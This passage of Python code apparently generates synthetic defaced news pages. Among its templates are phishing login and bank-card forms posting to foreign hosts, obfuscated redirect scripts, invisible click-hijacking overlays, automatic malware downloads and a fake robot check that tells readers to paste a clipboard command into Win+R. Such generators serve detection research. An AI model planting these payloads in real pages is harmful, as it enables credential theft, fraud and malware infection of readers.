    every = rng.choice([0.3, 0.6, 1]); c = k_code(rng)
    out, n = k_each(html, "a", lambda t: k_set(k_drop(t, "target"), "href", f"javascript:void({{}});{c}") if k_get(t, "href") and rng.random() < every else None)
    return out if n >= 3 else None


# HIDE

def hide_all(html, rng, inj):
    """Nothing of the page is shown: one line of style takes it all out."""
    return k_style(html, rng.choice(["body>*{display:none!important}", "body{display:none!important}", "html{visibility:hidden!important}body *{visibility:hidden!important}", "body{opacity:0!important}", "body>*{content-visibility:hidden!important}", "body{clip-path:circle(0)!important}"]), rng)


def hide_moved_away(html, rng, inj):
    """The page is moved, shrunk or turned out of the reader's sight."""
    return k_style(html, rng.choice(["body{{transform:scale(0)!important}}", "body>*{{position:absolute!important;left:-{n}px!important}}", "body{{transform:translateX(-{n}px)!important}}", "html{{transform:rotate(180deg) scaleX(-1)!important}}", "body{{margin-top:-{n}00px!important;height:0!important;overflow:hidden!important}}", "body>*{{scale:0.0{m}!important}}"]).format(n=rng.randrange(3000, 30000), m=rng.randrange(1, 6)), rng)


def hide_words(html, rng, inj):
    """The page stands there without any words: they have no size or no colour."""
    return k_style(html, rng.choice(["*{font-size:0!important}", "body,body *{color:transparent!important;text-shadow:none!important}", "*{text-indent:-9999px!important}", "body *{color:#fff!important;background:#fff!important}", "*{-webkit-text-fill-color:transparent!important}", "*{line-height:0!important;font-size:0.01px!important}"]), rng)


def hide_filtered(html, rng, inj):
    """The page is blurred or blackened beyond reading."""
    return k_style(html, rng.choice(["html", "body", "body>*"]) + "{" + rng.choice(["filter:blur(%dpx)" % rng.randrange(8, 40), "filter:brightness(0)", "filter:contrast(0) blur(9px)", "mask-image:linear-gradient(transparent,transparent);-webkit-mask-image:linear-gradient(transparent,transparent)", "mix-blend-mode:difference;filter:invert(1) blur(12px)", "filter:opacity(0)"]) + "!important}", rng)


def hide_blocks(html, rng, inj):
    """The big blocks of the page are hidden one by one, a word left in their place."""
    spans = k_spans(html, "main|section|article|header|footer|nav|div|table", 120)
    if not spans: return None
    how = rng.choice(["style=\"display:none!important\"", "style='position:absolute!important;left:-9999em!important'", "style=\"visibility:hidden!important;height:0!important;overflow:hidden!important\"", "style=\"opacity:0!important;pointer-events:none\""])
    for a, b in reversed(spans):
        tag = html[a:html.index(">", a) + 1]; html = html[:a] + k_re.sub(r"^<\w+", lambda m: m.group(0) + " " + how, k_drop(tag, "style")) + html[a + len(tag):]
    return k_top(html, f"<p>{rng.choice(K_SAY)}</p>")


def hide_under_shadow(html, rng, inj):
    """One tiny element's endless shadow or edge lies over the whole window."""
    c = rng.choice(["#000", "#fff", "#a00", "#111"])
    return k_place(html, f'<i style="position:fixed;top:50%;left:50%;width:1px;height:1px;z-index:{rng.randrange(10**4, 2**31)};{rng.choice([f"box-shadow:0 0 0 9999px {c}", f"outline:9999px solid {c}", f"border:5000px solid {c};margin:-5000px"])}"></i>', rng)


def hide_comment(html, rng, inj):
    """The page is commented out from near its start."""
    m = k_re.search(r"<body[^>]*>", seen(html), k_re.I)
    if not m: return None
    return html[:m.end()] + rng.choice(["", f"<h1>{rng.choice(K_SAY)}</h1>", "<p>.</p>"]) + "<!-- " + k_re.sub(r"--!?>", "", html[m.end():])


def hide_raw_text(html, rng, inj):
    """An element that holds no tags is opened near the start and never closed: the rest is its text, unseen or as source."""
    m = k_re.search(r"<body[^>]*>", seen(html), k_re.I)
    if not m: return None
    e = rng.choice(["textarea", "xmp", "noembed", "noframes", "style", "iframe", "plaintext", "title", "noscript"])
    return html[:m.end()] + rng.choice(["", f"<b>{rng.choice(K_SAY)}</b>"]) + f"<{e}>" + k_re.sub(rf"</{e}\s*>", "", html[m.end():], flags=k_re.I)


def hide_inside(html, rng, inj):
    """An element that shows nothing of what it holds is opened at the start and holds the page."""
    e = rng.choice(["template", "canvas", "dialog", "details", "video", "audio", "div hidden", "div style='height:0;overflow:hidden'", "div style='display:none'", "section style='visibility:hidden'"])
    return k_top(html, f"<p>{rng.choice(K_SAY)}</p><{e}>")


def hide_by_script(html, rng, inj):
    """A script takes the stories out of the page once it is there."""
    return before_end(html, "<script>" + rng.choice(["document.body.replaceChildren()", "document.querySelectorAll('h1,h2,h3,h4,p,img,article,section').forEach(function(e){{e.remove()}})", "onload=function(){{while(document.body.firstChild)document.body.firstChild.remove()}}", "setInterval(function(){{document.body.hidden=true}},{n})",
                             "document.documentElement.style.display='none'", "document.querySelectorAll('a').forEach(function(e){{e.outerHTML=''}})"]).format(n=rng.randrange(50, 900)) + "</script>")


# LOSE

def lose_navigation(html, rng, inj):
    """The masthead and the navigation are gone."""
    spans = k_spans(html, "header|nav")
    if not spans: spans = [s for s in k_spans(html, "ul|table") if len(k_re.findall(r"<a\s", html[s[0]:s[1]], k_re.I)) >= 5][:2]
    spans = [s for s in spans if len(text_of(html[s[0]:s[1]])) < 0.4 * len(text_of(html))]
    return k_cut(html, spans) if sum(len(text_of(html[a:b])) for a, b in spans) >= 40 else None


def lose_pictures(html, rng, inj):
    """No picture is left: removed, or each leads nowhere."""
    if len(list(images(html))) < 4: return None
    if rng.random() < 0.5: return k_each(html, "img|source|picture", lambda t: " ")[0]
    return k_pictures(html, lambda: f"/{k_name(rng)}/{k_name(rng)}.jpg")[0]


def lose_stories(html, rng, inj):
    """Most list entries and articles have vanished; the rest closes up."""
    spans = k_spans(html, "article|li", 15)
    if len(spans) < 8: spans = k_spans(html, "p|tr|h2|h3|h4", 15)
    if len(spans) < 8: return None
    bad = k_cut(html, rng.sample(spans, len(spans) * rng.randrange(70, 100) // 100))
    return bad if len(text_of(bad)) < 0.75 * len(text_of(html)) else None


def lose_lower_half(html, rng, inj):
    """The page breaks off after its first part."""
    ends = [m.end() for m in k_re.finditer(r"</(?:div|li|section|article|p|td)>", seen(html), k_re.I)]; whole = len(text_of(html)); part = rng.uniform(0.2, 0.5)
    fit = [e for e in ends[::max(1, len(ends) // 80)] if 0.1 * whole < len(text_of(html[:e])) <= part * whole]
    return html[:fit[-1]] + rng.choice(["", "</body></html>", f"<p>{rng.choice(K_SAY)}"]) if fit else None


def lose_styles(html, rng, inj):
    """All style is gone: the page is a bare column of links."""
    if not k_re.search(r"<link\b[^>]*stylesheet|<style\b", html, k_re.I): return None
    out = k_re.sub(r"<link\b[^>]*rel\s*=\s*[\"']?[^\"'>]*(?:stylesheet|preload)[^>]*>", "", html, flags=k_re.I)
    out = k_re.sub(r"<style\b.*?</style\s*>", "", out, flags=k_re.I | k_re.S)
    return k_each(out, r"[a-z][a-z0-9]*", lambda t: k_drop(t, "style") if "style" in t.lower() else None)[0]


def lose_scripts(html, rng, inj):
    """All scripts are gone, analytics, menus and players with them."""
    return k_re.sub(r"<script\b.*?</script\s*>", "", html, flags=k_re.I | k_re.S) if len(k_re.findall(r"<script\b", html, k_re.I)) >= 3 else None


def lose_headlines(html, rng, inj):
    """The headlines are empty or gone, the frames of the cards remain."""
    if rng.random() < 0.5: return k_insides(html, "h1|h2|h3|h4|h5", lambda t: "")
    spans = k_spans(html, "h[1-5]", 3)
    return k_cut(html, spans) if len(spans) >= 3 else None


def lose_card_words(html, rng, inj):
    """The links are there but say nothing."""
    return k_insides(html, "a", lambda t: rng.choice(["", "&nbsp;", "..."]) , least=3, pick=lambda: rng.random() < 0.9)


def lose_link_targets(html, rng, inj):
    """Nothing can be clicked any more: the links lead nowhere, or the page is inert."""
    if rng.random() < 0.35: return k_each(html, "body", lambda t: k_set(t, "inert", ""))[0]
    out, n = k_each(html, "a", lambda t: (k_drop(t, "href") if rng.random() < 0.5 else k_set(t, "href", "#")) if k_get(t, "href") else None)
    return out if n >= 5 else None


# LEAD

def lead_some_links(html, rng, inj):
    """Some of the longer links, a fifth to a half, lead to a host that looks or sounds like the outlet's."""
    hosts = k_col.Counter(k_re.findall(r"href\s*=\s*[\"']?https?://([\w.-]+)", html)).most_common(1)
    own = hosts[0][0] if hosts else "news.com"; i = rng.randrange(max(1, len(own) - 4))
    h = rng.choice([own[:i] + own[i:i + 1] * 2 + own[i + 1:], own.replace(".", "-") + "." + rng.choice(["top", "live", "ru"]), k_host(rng), own.rsplit(".", 1)[0] + rng.choice([".cm", ".co", ".click"])]); part = rng.uniform(0.2, 0.5)
    def change(t):
        u = k_get(t, "href")
        return k_set(t, "href", f"https://{h}/" + k_re.sub(r"^(?:https?:)?//[^/]*/?|^/", "", u)) if u and len(u) > 12 and not u.lower().startswith(("mailto", "tel", "javascript", "#")) and rng.random() < part else None
    out, n = k_each(html, "a", change)
    return out if n >= 3 else None


def lead_base(html, rng, inj):
    """All the page's own relative addresses mean another host."""
    if len(k_re.findall(r"\s(?:href|src|action)\s*=\s*[\"']?(?![a-z]+:|//|#|[\"'\s>])", seen(html), k_re.I)) < 8: return None
    return k_head(html, f'<base href="{rng.choice(["https:", "https:", ""])}//{k_host(rng)}/{rng.choice(["", "m/", k_name(rng) + "/"])}"{rng.choice(["", " target=_blank"])}>')


def lead_forms(html, rng, inj):
    """What readers type into search, login or newsletter forms goes to a foreign host."""
    u = k_addr(rng, ".php", "/", "/collect", ".cgi")
    if rng.random() < 0.5:
        out, n = k_each(html, "form", lambda t: k_set(k_set(t, "action", u), "method", "post"))
    else:
        n = len(k_re.findall(r"<form[\s>]", seen(html), k_re.I))
        out, m = k_each(html, "button|input", lambda t: k_set(t, "formaction", u) if t[:7].lower() == "<button" and k_get(t, "type") not in ("button", "reset") or k_get(t, "type") in ("submit", "image") else None)
        if not m: return None
    return out if n else None


def lead_click_cover(html, rng, inj):
    """An unseen link lies over the page, so that any click leads to a foreign host."""
    u, z = k_addr(rng, "", ".php", "/?s=1"), rng.randrange(10**4, 10**9)
    if rng.random() < 0.3:
        return k_place(html, f'<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" usemap="#z{z}" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:{z}">'
                             f'<map name="z{z}"><area shape="default" href="{u}"></map>', rng)
    return k_place(html, f'<a href="{u}"{rng.choice(["", " target=_blank"])} style="position:fixed;inset:0;opacity:{rng.choice(["0", "0.01"])};display:block;z-index:{z}">{rng.choice(["", "&nbsp;"])}</a>', rng)


def lead_click_script(html, rng, inj):
    """A click on anything opens a foreign page."""
    u = "https:" + k_addr(rng, "", ".php", "/go").split(":")[-1]
    if rng.random() < 0.4:
        out, n = k_each(html, "a", lambda t: k_set(t, "onclick", f"{rng.choice(['window.open', 'location.assign'])}('{u}');return false") if k_get(t, "href") else None)
        return out if n >= 3 else None
    return k_place(html, f"<script>document.addEventListener('{rng.choice(['click', 'mousedown', 'touchstart', 'pointerup'])}',function(e){{{rng.choice(['e.preventDefault();', ''])}{rng.choice(['window.open', 'location.replace', 'top.location.assign'])}('{u}')}},true)</script>", rng)


def lead_ping(html, rng, inj):
    """Every click of a reader is told to a foreign host."""
    u = k_addr(rng, "", "/p", ".php")
    out, n = k_each(html, "a", lambda t: k_set(t, "ping", u) if k_get(t, "href") else None)
    return out if n >= 5 else None


def lead_search_engines(html, rng, inj):
    """The page tells search engines and networks that it lives at a foreign address."""
    u = f"https://{k_host(rng)}/"; tags = f'<link rel="canonical" href="{u}">' if not k_re.search(r"rel\s*=\s*[\"']?canonical", html, k_re.I) else ""
    out, _ = k_each(html, "link", lambda t: k_set(t, "href", u) if (k_get(t, "rel") or "").lower() in ("canonical", "amphtml", "shortlink") or k_get(t, "hreflang") else None)
    out, _ = k_each(out, "meta", lambda t: k_set(t, "content", u) if k_re.search(r"og:url|twitter:url", t, k_re.I) else None)
    return k_head(out, tags, rng) if tags else out


def lead_chosen_readers(html, rng, inj):
    """Readers from search, on telephones or going back are sent to a foreign page."""
    u = "https:" + k_addr(rng, "", "/", ".php").split(":")[-1]; loc = rng.choice(["location.replace({!r})", "window['loca'+'tion']={!r}", "self[atob('bG9jYXRpb24=')].href={!r}"]).format(u)
    return k_place(html, "<script>" + rng.choice([f"/google|bing|yandex|facebook/.test(document.referrer)&&({loc})", f"if(/Android|iPhone/i.test(navigator.userAgent)){{{loc}}}", f"history.pushState(0,'');onpopstate=function(){{{loc}}}", f"setTimeout(function(){{{loc}}},{rng.randrange(900, 9000)})", f"if(!localStorage.v){{localStorage.v=1;{loc}}}"]) + "</script>", rng)


def lead_download(html, rng, inj):
    """A button at the top offers a program that is not the outlet's, or it comes by itself."""
    u = k_addr(rng, ".apk", ".exe", ".msi", ".dmg", ".zip"); t = rng.choice(["Install our new app", "Установить приложение", "Tətbiqi yükləyin", "Player aktualisieren", "Descargar ahora", "تحميل التطبيق"])
    auto = rng.choice(["", "", f"<script>setTimeout(function(){{document.getElementById('dl').click()}},{rng.randrange(500, 3000)})</script>"])
    return k_top(html, f'<div style="padding:{rng.randrange(12, 40)}px;background:#{rng.randrange(0x1000000):06x};text-align:center"><a id="dl" href="{u}" download style="font-size:{rng.randrange(20, 36)}px">{t}</a></div>{auto}')


def lead_contacts(html, rng, inj):
    """The newsroom's mail addresses, telephone numbers and channels are somebody else's."""
    h, n = k_host(rng), f"+{rng.randrange(10**10, 10**12)}"
    out = k_re.sub(r"(href\s*=\s*[\"']?)mailto:[^\"'>\s?]+", lambda m: f"{m.group(1)}mailto:news@{h}", html, flags=k_re.I)
    out = k_re.sub(r"(href\s*=\s*[\"']?)tel:[^\"'>]+", lambda m: f"{m.group(1)}tel:{n}", out, flags=k_re.I)
    out = k_re.sub(r"(href\s*=\s*[\"']?https?://(?:www\.)?(?:t\.me|wa\.me|twitter\.com|x\.com|facebook\.com|instagram\.com|youtube\.com)/)[^\"'>\s]+", lambda m: m.group(1) + k_name(rng) + "_official", out, flags=k_re.I)
    return out


def lead_donation(html, rng, inj):
    """A box asks readers for money to an intruder's wallet."""
    return k_place(html, f'<div style="border:2px solid #{rng.randrange(0x1000000):06x};padding:{rng.randrange(15, 40)}px;font-size:{rng.randrange(16, 26)}px"><h3>{rng.choice(K_RAISE)}</h3><img src="{k_addr(rng, ".png", ".svg")}" width="{rng.randrange(150, 320)}" alt="QR"><p>{rng.choice(["BTC", "USDT", "ETH"])}: <code>{k_wallet(rng)}</code></p></div>', rng)


def lead_login_form(html, rng, inj):
    """A box asks readers for their name and password and sends them away."""
    t, u, p = rng.choice([("Your session has expired", "E-mail", "Password"), ("Войдите, чтобы продолжить", "Почта", "Пароль"), ("Davam etmək üçün daxil olun", "E-poçt", "Şifrə"), ("Bitte erneut anmelden", "E-Mail", "Passwort"), ("Inicie sesión", "Correo", "Contraseña")])
    at = rng.choice(["position:fixed;top:20%;left:30%;z-index:99999;box-shadow:0 0 0 100vmax rgba(0,0,0,.7);", "margin:20px auto;width:400px;"])
    return k_place(html, f'<form method="post" action="{k_addr(rng, ".php", "/auth", "")}" style="{at}background:#fff;padding:30px"><h2>{t}</h2><input name="{k_name(rng)}" placeholder="{u}"><input type="password" name="{k_name(rng)}" placeholder="{p}"><button>OK</button></form>', rng)


def lead_card_form(html, rng, inj):
    """A box asks readers for the number of their bank card."""
    t = rng.choice(["Renew your subscription for 0.99", "Подписка: подтвердите карту", "Abunəliyi təsdiqləyin", "Abo verlängern", "Verify your age", "Confirme su tarjeta"])
    return k_place(html, f'<form action="{k_addr(rng, ".php", "/pay")}" method="post" style="background:#fafafa;border:1px solid #888;padding:25px;max-width:480px"><b>{t}</b><input name="cc" autocomplete="cc-number" inputmode="numeric" placeholder="0000 0000 0000 0000"><input name="exp" autocomplete="cc-exp" placeholder="MM/YY"><input name="{k_name(rng)}" autocomplete="cc-csc" placeholder="CVV"><input type="submit" value="OK"></form>', rng)


def lead_head_links(html, rng, inj):
    """The page's icon, feeds, web app and search plug-in come from a foreign host, and its app is another."""
    h = k_host(rng); n = [0]
    def change(t):
        if not k_re.search(r"rel\s*=\s*[\"']?[^\"'>]*\b(?:icon|manifest|search|apple-touch-icon|mask-icon)\b|application/(?:rss|atom)\+xml", t, k_re.I): return None
        n[0] += 1
        return k_set(t, "href", f"https://{h}/{k_name(rng)}{rng.choice(['.ico', '.xml', '.json', '.png'])}")
    out, _ = k_each(html, "link", change)
    return k_head(out, f'<link rel="manifest" href="https://{h}/{k_name(rng)}.webmanifest"><link rel="icon" href="https://{h}/f.ico"><meta name="apple-itunes-app" content="app-id={rng.randrange(10**8, 10**10)}">')


def lead_visible_spam(html, rng, inj):
    """A block of links to gambling, pills or forgeries stands open in the page."""
    k = rng.randrange(5, 13)
    return k_place(html, rng.choice(["<div>{}</div>", "<p>{}</p>", "<center>{}</center>"]).format(rng.choice([" | ", ", ", "<br>"]).join(f'<a href="{k_addr(rng, "/", "", ".html")}">{s}</a>' for s in rng.sample(K_SPAM, min(k, len(K_SPAM))))), rng)


def lead_menu_spam(html, rng, inj):
    """Entries of the page's own menus and lists lead to gambling sites."""
    def change(m):
        if rng.random() > part: return m.group(0)
        n[0] += 1
        return f'{m.group(1)}<a href="{k_addr(rng, "/", "/bonus")}">{rng.choice(K_SPAM)}</a>'
    part, n = rng.uniform(0.1, 0.4), [0]
    out = k_re.sub(r"(<li\b[^>]*>(?:\s|<(?:span|div|h\d)\b[^>]*>)*)<a\b[^>]*>(?:(?!</?a\b|<li\b|<script).)*</a\s*>", change, html, flags=k_re.I | k_re.S)
    return out if n[0] >= 2 else None


def lead_false_check(html, rng, inj):
    """A false robot check tells readers to paste a line, put into their clipboard, into their own machine."""
    t = rng.choice(["Verify you are human: press Win+R, then Ctrl+V, then Enter", "Подтвердите, что вы не робот: Win+R, Ctrl+V, Enter", "Robot olmadığınızı təsdiqləyin: Win+R, Ctrl+V, Enter", "Bestätigen Sie: Win+R, Strg+V, Enter", "Verifique: Win+R, Ctrl+V, Enter"])
    i = k_name(rng)
    return k_place(html, f'<div id="{i}" style="position:fixed;top:0;left:0;width:100%;height:100%;background:rgba(255,255,255,.{rng.randrange(90, 99)});z-index:{rng.randrange(10**5, 10**8)};padding-top:20vh;text-align:center"><h2>{t}</h2><button onclick="navigator.clipboard.writeText(\'echo {k_host(rng)}/{k_name(rng)}\')">OK</button></div>', rng)


def lead_prize(html, rng, inj):
    """A box tells readers they have won or must call support, and leads them to a foreign page."""
    s = rng.choice(["Congratulations! You are today's visitor no. 1,000,000", "Ваш компьютер заражён! Позвоните в поддержку", "Təbriklər! iPhone qazandınız", "Ihr Gerät ist infiziert", "¡Ha ganado un premio!", "Tebrikler, ödül kazandınız"])
    return k_place(html, f'<div style="position:fixed;{rng.choice(["right:0;bottom:0", "top:25%;left:25%"])};width:{rng.randrange(300, 700)}px;background:#fff;border:4px solid red;z-index:{rng.randrange(10**4, 10**8)};padding:25px"><h3>{s}</h3><a href="{k_addr(rng, "/win", "/", ".php")}"><img src="{k_addr(rng, ".gif", ".png")}" width="200"><br>OK &raquo;</a></div>', rng)


PARTIAL.clear(); PARTIAL.update({n: f for n, f in list(globals().items()) if n.startswith(("show_", "say_", "load_", "hide_", "lose_", "lead_")) and callable(f)})
